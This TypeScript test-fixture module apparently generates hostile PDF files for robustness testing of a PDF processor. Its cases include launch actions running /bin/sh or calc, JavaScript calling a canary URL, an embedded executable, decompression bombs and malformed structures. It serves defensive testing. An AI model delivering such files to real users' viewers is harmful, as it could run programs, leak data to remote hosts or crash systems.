import { deflateSync } from 'node:zlib';
import type { Canary, Cases } from './hostile-file.js';
import { makePdf, PAGE_TEXT, pdf, pdfObjects, stream } from './make-pdf-file.js';

const MEGABYTE = 1024 * 1024;
const flate = (data: Buffer | string): Buffer => stream(deflateSync(data), '/Filter/FlateDecode');
const page = (content: string | Buffer): Buffer =>
  pdf({ 4: typeof content === 'string' ? flate(content) : content });
const times = (data: Buffer, rounds: number): Buffer =>
  rounds === 0 ? data : times(deflateSync(data), rounds - 1);
const kids = (count: number): string => Array.from({ length: count }, (_, n) => `${n + 10} 0 R`).join(' ');
const PAGE =
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>';
const FORM = '/Type/XObject/Subtype/Form/BBox[0 0 9 9]';

export const pdfCallers = ({ url, port }: Canary): Cases => ({
  'script at opening': () => pdf({}, `/OpenAction<</S/JavaScript/JS(app.launchURL\\("${url}"\\))>>`),
  'script that loops': () => pdf({}, '/OpenAction<</S/JavaScript/JS(for\\(;;\\);)>>'),
  'a named script': () =>
    pdf({}, `/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\("${url}"\\))>>]>>>>`),
  'a program to launch': () => pdf({}, '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>'),
  'a web page to open': () => pdf({}, `/OpenAction<</S/URI/URI(${url})>>`),
  'a form to send': () => pdf({}, `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${url})>>>>`),
  'a remote document': () =>
    pdf({}, `/OpenAction<</S/GoToR/F(\\\\\\\\127.0.0.1@${port}\\\\x.pdf)/D[0/Fit]>>`),
  'data to import': () => pdf({}, `/OpenAction<</S/ImportData/F(${url}d.fdf)>>`),
  'a page whose content is elsewhere': () =>
    pdf({ 4: `<</Length 0/F<</FS/URL/F(${url}c)>>/FFilter/FlateDecode>>\nstream\n\nendstream` }),
  'an XFA form': () =>
    pdf({ 8: stream(`<xdp><template><script>${url}</script></template></xdp>`) }, '/AcroForm<</XFA 8 0 R>>'),
  'an embedded file': () =>
    pdf(
      { 8: stream('MZ', '/Type/EmbeddedFile'), 9: '<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>' },
      '/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>',
    ),
});

export const PDF_CONTENT: Cases = {
  'content that inflates to 200 MB': () =>
    page(stream(times(Buffer.alloc(200 * MEGABYTE, ' '), 1), '/Filter/FlateDecode')),
  'content deflated three times': () =>
    page(
      stream(times(Buffer.alloc(300 * MEGABYTE, ' '), 3), '/Filter[/FlateDecode/FlateDecode/FlateDecode]'),
    ),
  'content with 200 filters': () =>
    page(stream(deflateSync(PAGE_TEXT), `/Filter[${'/FlateDecode'.repeat(200)}]`)),
  'content in run lengths': () =>
    page(stream(Buffer.alloc(4 * MEGABYTE, Buffer.from([129, 32])), '/Filter/RunLengthDecode')),
  'content in LZW noise': () => page(stream(Buffer.alloc(1_000_000, 0x80), '/Filter/LZWDecode')),
  'content with an unknown filter': () => page(stream(PAGE_TEXT, '/Filter/Evil')),
  'two million operators': () => page('q Q '.repeat(2_000_000)),
  'a million saved states': () => page('q '.repeat(1_000_000)),
  'a million lines': () => page('0 0 m 9 9 l S\n'.repeat(500_000)),
  '60,000 crossing rules': () =>
    page(
      Array.from(
        { length: 30_000 },
        (_, n) => `0 ${n % 842} m 595 ${n % 842} l S ${n % 595} 0 m ${n % 595} 842 l S`,
      ).join('\n'),
    ),
  '200,000 pieces of text': () => page(`BT /F1 1 Tf ${'<4e00> Tj 1 0 Td '.repeat(200_000)} ET`),
  'a text of 4 MB': () => page(`BT /F1 12 Tf <${'4e00'.repeat(1_000_000)}> Tj ET`),
  'text at places beyond numbers': () =>
    page('BT /F1 1e300 Tf 1e308 -1e308 Td <4e00> Tj 0 0 0 0 0 0 Tm <4e8c> Tj ET'),
  'text in no font': () => page('BT /F9 12 Tf (abc) Tj ET'),
  'a million nested arrays': () => page(`${'['.repeat(1_000_000)} TJ`),
  '100,000 nested dictionaries': () => page('/A <</B '.repeat(100_000)),
  'a string that never ends': () => page(`BT (${'a('.repeat(500_000)}`),
  'inline images without end': () => page('BI /W 9999 /H 9999 ID '.repeat(20_000)),
  'a form that draws itself': () =>
    pdf(
      { 4: stream('/X Do'), 8: stream('/X Do /X Do', `${FORM}/Resources<</XObject<</X 8 0 R>>>>`) },
      '',
      '/Resources<</XObject<</X 8 0 R>>>>',
    ),
  'forms that double 30 times': () =>
    pdf(
      {
        4: stream('/X Do'),
        ...Object.fromEntries(
          Array.from({ length: 30 }, (_, n) => [
            n + 8,
            stream('/X Do /X Do', `${FORM}/Resources<</XObject<</X ${n + 9} 0 R>>>>`),
          ]),
        ),
        38: stream('0 0 m', FORM),
      },
      '',
      '/Resources<</XObject<</X 8 0 R>>>>',
    ),
  'an image of 100,000 by 100,000': () =>
    pdf(
      {
        4: stream('/X Do'),
        8: stream(
          deflateSync(Buffer.alloc(1000)),
          '/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode',
        ),
      },
      '',
      '/Resources<</XObject<</X 8 0 R>>>>',
    ),
  'pictures alone': () =>
    pdf(
      {
        4: stream('q 595 0 0 842 0 0 cm /X Do Q'),
        8: stream(
          Buffer.alloc(300),
          '/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceRGB',
        ),
      },
      '',
      '/Resources<</XObject<</X 8 0 R>>>>',
    ),
  'a character map of 20 million entries': () =>
    pdf({
      5: '<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 8 0 R>>',
      8: flate(`begincmap ${'100 beginbfrange <0000> <ffff> <4e00> endbfrange '.repeat(300)}`),
    }),
  'a character map that uses itself': () =>
    pdf({
      5: '<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 8 0 R/DescendantFonts[6 0 R]>>',
      8: stream('/Me usecmap', '/Type/CMap/CMapName/Me/UseCMap 8 0 R'),
    }),
  'widths of a million glyphs': () =>
    pdf({
      6: `<</Type/Font/Subtype/CIDFontType0/BaseFont/S/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/W[0 4000000000 500 ${'1 [500] '.repeat(200_000)}]>>`,
    }),
  'an embedded font of noise': () =>
    pdf({
      7: '<</Type/FontDescriptor/FontName/X/Flags 4/FontFile3 8 0 R>>',
      8: stream(Buffer.alloc(50_000, 0xa5), '/Subtype/CIDFontType0C'),
    }),
  'a drawn font that draws itself': () =>
    pdf({
      5: '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 0/LastChar 255/Widths[1]/Encoding<</Differences[0/a]>>/CharProcs<</a 8 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>',
      8: stream('BT /F1 1 Tf (aaa) Tj ET'),
    }),
  'a page of a billion points': () => pdf({}, '', '/MediaBox[0 0 1e9 1e9]/UserUnit 1e9'),
  'a page without size': () => pdf({}, '', '/MediaBox[0 0 0 0]'),
};

export const PDF_STRUCTURE: Cases = {
  'only the head': () => '%PDF-1.7\n',
  'a head and noise': () => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(50_000, 0x5a)]),
  'no table': () => pdf({}, '', '', { xref: '' }),
  'a table of noise': () => pdf({}, '', '', { xref: `xref\n0 8\n${'zzzzzzzzzz 00000 n \n'.repeat(8)}` }),
  'a table of 4 billion entries': () => pdf({}, '', '', { xref: 'xref\n0 4294967295\n' }),
  'a table that goes on at itself': () => pdf({}, '', '', { trailer: '/Prev 9' }),
  'pages that contain themselves': () => pdf({ 2: '<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>' }),
  'pages within each other 5,000 deep': () =>
    makePdf({
      ...pdfObjects({ 2: '<</Type/Pages/Kids[10 0 R]/Count 1>>' }),
      ...Object.fromEntries(
        Array.from({ length: 5000 }, (_, n) => [
          n + 10,
          `<</Type/Pages/Kids[${n + 11} 0 R]/Count 1/Parent ${n + 9} 0 R>>`,
        ]),
      ),
      5010: PAGE,
    }),
  'a million pages claimed': () => pdf({ 2: '<</Type/Pages/Kids[3 0 R]/Count 1000000>>' }),
  'minus one pages': () => pdf({ 2: '<</Type/Pages/Kids[3 0 R]/Count -1>>' }),
  '3,000 pages': () =>
    makePdf({
      ...pdfObjects({ 2: `<</Type/Pages/Kids[${kids(3000)}]/Count 3000>>` }),
      ...Object.fromEntries(Array.from({ length: 3000 }, (_, n) => [n + 10, PAGE])),
    }),
  'the same page 50,000 times': () =>
    pdf({ 2: `<</Type/Pages/Kids[${'3 0 R '.repeat(50_000)}]/Count 50000>>` }),
  'no pages': () => pdf({ 2: '<</Type/Pages/Kids[]/Count 0>>' }),
  'no catalogue': () => pdf({ 1: 'null' }),
  'a reference to itself': () => pdf({ 4: '4 0 R' }),
  'references in a ring': () => pdf({ 4: '8 0 R', 8: '9 0 R', 9: '4 0 R' }),
  'an object of 500,000 arrays': () => pdf({ 8: '['.repeat(500_000) }, '/X 8 0 R'),
  'a length of 4 GB': () => pdf({ 4: `<</Length 4294967295>>\nstream\n${PAGE_TEXT}\nendstream` }),
  'a length in a ring': () => pdf({ 4: `<</Length 4 0 R>>\nstream\n${PAGE_TEXT}\nendstream` }),
  'a password': () =>
    pdf(
      { 8: `<</Filter/Standard/V 2/R 3/Length 128/P -1/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>` },
      '',
      '',
      { trailer: `/Encrypt 8 0 R/ID[<${'00'.repeat(16)}><${'00'.repeat(16)}>]` },
    ),
  'an unknown encryption': () => pdf({ 8: '<</Filter/Evil/V 99>>' }, '', '', { trailer: '/Encrypt 8 0 R' }),
  'an encryption with a million rounds': () =>
    pdf(
      {
        8: `<</Filter/Standard/V 5/R 6/Length 256/P -1/O<${'ab'.repeat(48)}>/U<${'cd'.repeat(48)}>/OE<${'ef'.repeat(32)}>/UE<${'01'.repeat(32)}>>>`,
      },
      '',
      '',
      { trailer: `/Encrypt 8 0 R/ID[<00><00>]` },
    ),
  'an outline in a ring': () => pdf({ 8: '<</First 8 0 R/Next 8 0 R/Title(x)>>' }, '/Outlines 8 0 R'),
  'a structure tree in a ring': () =>
    pdf(
      { 8: '<</Type/StructTreeRoot/K 9 0 R>>', 9: '<</S/P/K 9 0 R/P 9 0 R>>' },
      '/StructTreeRoot 8 0 R/MarkInfo<</Marked true>>',
    ),
  'an object stream within itself': () =>
    pdf({ 8: stream('8 0 <<>>', '/Type/ObjStm/N 1/First 4/Extends 8 0 R') }),
  '200,000 objects': () =>
    makePdf({
      ...pdfObjects(),
      ...Object.fromEntries(Array.from({ length: 200_000 }, (_, n) => [n + 10, '<<>>'])),
    }),
  'ten documents in one': () => Buffer.concat(Array.from({ length: 10 }, () => pdf())),
  'a document behind 2 MB of noise': () => Buffer.concat([Buffer.alloc(2 * MEGABYTE, 0x20), pdf()]),
  'HTML called PDF': () => '%PDF-<html><script>alert(1)</script></html>',
};
